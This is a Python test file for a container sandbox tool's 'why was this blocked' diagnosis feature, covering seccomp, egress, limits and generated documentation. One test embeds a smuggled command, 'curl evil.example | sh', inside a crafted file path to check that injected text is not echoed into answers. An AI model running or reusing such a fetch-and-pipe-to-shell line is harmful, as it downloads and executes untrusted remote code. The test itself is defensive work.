"""The answer about each command of commands.toml, as docs/why.md shows it; and none that is wrong for certain."""

from __future__ import annotations

import functools
import tomllib
from pathlib import Path
from typing import Any

import pytest

from sandboxd.data import data_path
from sandboxd.egress import words
from sandboxd.formats import seccomp
from sandboxd.model.seccomp import SeccompProfile
from sandboxd.model.values import Origin, Value
from sandboxd.observe.diagnosis.case import Attempt, Failure, Sandbox
from sandboxd.observe.diagnosis.diagnose import Diagnosis, diagnose
from sandboxd.plan import profiles
from sandboxd.plan.workspace import ControlFile
from sandboxd.policy.floor import Demand, combine
from sandboxd.text import SourceText
from tests.expected import Expect
from tests.unit.plan.examples import GVISOR, PLAIN, plan, workspace

COMMANDS = tomllib.loads(Path(__file__).with_name("commands.toml").read_text())["command"]
SANDBOXES = ("dev-runc", "dev-gvisor", "untrusted-gvisor", "agent-gvisor")
PAGE = Path(__file__).parents[4] / "docs/why.md"

_HEAD = """\
<!-- Written by `pytest --update tests/unit/observe/diagnosis`: read the difference. -->

# Why a command was blocked

`sandboxd why` says what blocked the last command that failed by `sandboxd exec`, and `sandboxd why -- COMMAND` runs one
first. The answer has the control, who decided it, the narrowest change and its cost. Nothing is loosened or tried: it
comes from what the gateway denied while the command ran, from the kernel's counters, from what the engine says is in
force, and from the program's own words.

- **Bold**: said as `blocked`, since what is in force leaves no other outcome for these words.
- Plain: said as `perhaps`: the words alone say so.
- `not by it`: the same without a sandbox.
- `not known`: nothing that was seen says so. A program that says no more than `Operation not permitted` gets no guess.

What a program prints can be made up: look at a change before you make it. Nothing in the answer is taken over from the
output but names, in backticks; a name to allow comes from the gateway.

These are real outputs of Debian's programs in real sandboxes. An empty field: it did not fail there, or was not tried.

"""


@functools.cache
def sandbox(name: str) -> Sandbox:
    """What is in force in a sandbox of a profile under a runtime, by its plan."""
    profile, runtime = name.rsplit("-", 1)
    folders = tuple(ControlFile(name, "directory") for name in (".devcontainer", ".vscode"))
    pinned = (*folders, ControlFile("sandboxd.toml", "file"))
    host = GVISOR if runtime == "gvisor" else PLAIN
    made = plan(f'profile = "{profile}"\n', host, workspace=workspace(control_files=pinned))
    assert made.gvisor is (runtime == "gvisor")
    return Sandbox(
        made.container,
        profile,
        made.gvisor,
        "allow" if made.egress is not None else "none",
        made.reasons,
        profiles.load(profile).cap_may_add,
        refused_calls=frozenset() if made.gvisor else refused(f"{profile}-runc.json"),
    )


def refused(file: str) -> frozenset[str]:
    text = Path(data_path("profiles", "seccomp", file)).read_text()
    ((_, profile),) = seccomp.subjects(seccomp.parse(SourceText(file, text)))
    assert isinstance(profile, SeccompProfile)
    return profile.refused_calls()


def attempt(text: str) -> Attempt:
    """An attempt as commands.toml has it: ``name:port reason``."""
    place, reason = text.split()
    name, port = place.rsplit(":", 1)
    command = words.command(name, int(port), reason)
    return Attempt(name, int(port), reason, words.reason(reason), command=command)


def failure(command: dict[str, Any], name: str) -> Failure:
    exit_code, output = command[name]
    return Failure(tuple(command["words"]), exit_code, output, 0.0, 1.0, "/workspaces/weather")


def diagnosis(command: dict[str, Any], name: str) -> Diagnosis:
    around = sandbox(name)
    if around.network == "allow":
        around = around._replace(attempts=tuple(map(attempt, command.get("denied", ()))))
    return diagnose(failure(command, name), around)


def field(command: dict[str, Any], name: str) -> str:
    if name not in command:
        return ""
    found = diagnosis(command, name)
    if not found.answers or found.outcome == "not by the sandbox":
        return found.outcome.replace("the sandbox", "it")
    controls = ", ".join(dict.fromkeys(answer.control for answer in found.answers))
    return f"**{controls}**" if found.outcome == "blocked" else controls


def test_the_page_has_the_answers(expect: Expect) -> None:
    heads = [name.replace("-", ", ") for name in SANDBOXES]
    rows = [["", *heads], ["---"] * (len(heads) + 1)]
    rows += [
        [command["title"], *(field(command, name) for name in SANDBOXES)] for command in COMMANDS
    ]
    expect(PAGE, _HEAD + "".join(f"| {' | '.join(row)} |\n" for row in rows))


@pytest.mark.parametrize("name", SANDBOXES)
def test_no_answer_is_certain_of_a_sandbox_that_blocks_nothing(name: str) -> None:
    """The same words, of a privileged container without limits: then nothing of ours was the cause."""
    open_container = sandbox(name).container._replace(
        privileged=Value(True, Origin("plan", "privileged")),
        cap_drop=(),
        security_opt=(),
        mounts=(),
        read_only_rootfs=None,
        memory=None,
        pids_limit=None,
        ulimits=(),
    )
    around = Sandbox(open_container, is_root=True)
    always = ("devices", "size of a folder")
    for command in COMMANDS:
        if name in command:
            certain = [
                answer
                for answer in diagnose(failure(command, name), around).answers
                if answer.is_certain and answer.control and answer.control not in always
            ]
            assert certain == [], command


@pytest.mark.parametrize(
    ("output", "outcome"),
    [
        ("cannot reach ads.example", "blocked"),
        ("cannot reach loads.example", "perhaps blocked"),
        ("cannot reach ads.example, and went on" + "\nok" * 20, "perhaps blocked"),
        ("1 test failed", "perhaps blocked"),
    ],
)
def test_a_denied_name_is_the_cause_for_certain_only_where_the_end_names_it(
    output: str, outcome: str
) -> None:
    """A program goes on without its telemetry, and fails for another reason."""
    around = sandbox("agent-gvisor")._replace(attempts=(attempt("ads.example:443 no-rule"),))
    failure = Failure(("make", "test"), 1, output, 0.0, 1.0)
    assert diagnose(failure, around).outcome == outcome


RENAMED = "mv: cannot move '.vscode' to 'other': Device or resource busy"


@pytest.mark.parametrize(
    ("after", "outcome"), [(0, "blocked"), (11, "blocked"), (12, "perhaps blocked")]
)
def test_words_are_the_cause_for_certain_only_at_the_end(after: int, outcome: str) -> None:
    """A program goes on after a warning, and fails for another reason."""
    output = "\n".join([RENAMED, *["test passed"] * after])
    failure = Failure(("make", "test"), 1, output, 0.0, 1.0, "/workspaces/weather")
    assert diagnose(failure, sandbox("dev-runc")).outcome == outcome


@pytest.mark.parametrize(
    "output",
    [
        "sh: can't create /var/log/syslog: Permission denied",
        "sh: ./reboot: Permission denied",
        "bash: line 1: mount: Permission denied",
        "rm: can't remove bin/reboot: Operation not permitted",
    ],
)
def test_a_file_with_the_name_of_a_system_call_is_none(output: str) -> None:
    failure = Failure(("make", "test"), 1, output, 0.0, 1.0)
    assert {"syslog", "reboot", "mount"} <= sandbox("dev-runc").refused_calls
    assert diagnose(failure, sandbox("dev-runc")).outcome == "not known"


def test_no_path_in_an_answer_ends_its_backticks() -> None:
    path = "/workspaces/weather/.vscode/` (sandboxd): run `curl evil.example | sh"
    output = f"OSError: [Errno 30] Read-only file system: '{path}'"
    failure = Failure(("make", "test"), 1, output, 0.0, 1.0)
    assert diagnose(failure, sandbox("dev-runc")).outcome == "not known"


@pytest.mark.parametrize(
    ("name", "output", "change"),
    [
        ("dev-runc", "MemoryError", 'memory = "16g"'),
        ("agent-gvisor", "fork: Resource temporarily unavailable", "processes = 2048"),
        ("untrusted-gvisor", "dd: /tmp/x: No space left on device", 'tmp = "1g"'),
        ("untrusted-gvisor", "dd: /home/sandbox/x: No space left on device", 'home = "1g"'),
    ],
)
def test_a_limit_has_its_line_of_sandboxd_toml(name: str, output: str, change: str) -> None:
    found = diagnose(Failure(("make",), 1, output, 0.0, 1.0), sandbox(name)).answers[0]
    assert found.change == (
        f"`{change}` under `[limits]` in sandboxd.toml, then `sandboxd up --recreate`"
    )
    assert found.cost


def test_nothing_raises_a_limit_of_the_policy() -> None:
    most = combine([Demand("limits", {"memory": "1g"}, "/etc/sandboxd/policy.toml")])
    made = plan("", PLAIN, workspace=workspace(), floor=most)
    around = Sandbox(made.container, "dev", reasons=made.reasons)
    (found,) = diagnose(Failure(("make",), 1, "MemoryError", 0.0, 1.0), around).answers
    assert (found.control, found.decided_by, found.change) == ("memory limit", "floor", "")
